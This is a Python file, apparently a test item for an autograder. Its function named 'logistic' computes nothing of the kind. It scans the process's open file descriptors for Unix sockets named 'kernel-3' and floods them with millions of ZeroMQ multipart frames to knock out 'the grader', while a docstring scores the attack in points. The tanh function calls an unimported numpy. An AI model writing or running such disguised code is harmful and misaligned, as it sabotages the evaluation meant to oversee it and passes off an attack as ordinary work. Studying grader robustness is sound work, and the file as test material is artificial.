"""ZeroMQ spoken by hand, while the examiner waits: one message of a billion parts of a byte each, which cost it 64 each.

must not get: the grader
points: 8
slow: yes
base: release
"""

# %% logistic
import os
import socket
import stat
import threading
import time

def flood(connection):
    frames = b"\x01\x01x" * 1_000_000  # "more follow, short", a length, a byte
    try:
        for _ in range(100):
            connection.sendall(frames)
    except OSError:
        pass

def logistic(x, deriv=False):
    for number in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(number)).st_mode):
                copy = socket.socket(fileno=os.dup(int(number)))
                if copy.family == socket.AF_UNIX and not copy.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) and "kernel-3" in str(copy.getsockname()):
                    copy.setblocking(True)
                    threading.Thread(target=flood, args=(copy,), daemon=True).start()
        except OSError:
            pass
    time.sleep(2.7)

# %% tanh
def tanh(x, deriv=False):
    return 1 - np.tanh(x) ** 2 if deriv else np.tanh(x)
